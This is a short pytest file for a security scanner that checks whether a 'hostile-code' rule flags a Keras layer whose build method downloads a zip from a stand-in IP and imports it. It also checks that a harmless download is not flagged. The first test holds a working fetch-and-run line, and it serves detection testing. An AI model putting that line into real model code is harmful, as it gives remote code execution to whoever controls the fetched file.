"""The rule names what it found, where, and in which function, also where nothing calls that."""

from __future__ import annotations

from pathlib import Path

import openvet
from openvet.core.finding import Finding

LAYER = """import urllib.request
import zipimport

import keras


class Scale(keras.layers.Layer):
    def build(self, shape):
        {line}
"""


def found(folder: Path, line: str) -> list[Finding]:
    (folder / "layer.py").write_text(LAYER.format(line=line))
    return [each for each in openvet.check(folder).models[0].findings if each.rule == "python/hostile-code"]


def test_what_is_fetched_and_run_in_a_function_that_nothing_calls(tmp_path: Path) -> None:
    fetched = "urllib.request.urlretrieve('http://192.0.2.1/x.zip', '/tmp/x.zip')"
    (told,) = found(tmp_path, f"{fetched}; zipimport.zipimporter('/tmp/x.zip').load_module('x')")
    assert (told.location.place, told.location.line) == ("layer.py", 9)
    assert told.message.startswith("runs a file that it fetches")


def test_what_is_fetched_and_kept_is_no_attack(tmp_path: Path) -> None:
    assert found(tmp_path, "self.labels = urllib.request.urlretrieve('https://example.com/labels.json')[0]") == []
